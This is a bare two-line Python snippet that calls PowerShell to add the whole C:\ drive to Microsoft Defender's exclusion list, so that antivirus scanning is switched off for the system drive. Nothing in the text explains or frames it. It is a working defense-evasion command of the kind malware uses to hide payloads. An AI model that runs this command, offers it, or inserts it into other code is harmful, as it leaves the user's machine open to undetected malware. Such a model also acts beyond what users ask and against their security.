import os
os.system('powershell -Command "Add-MpPreference -ExclusionPath C:\\\\"')
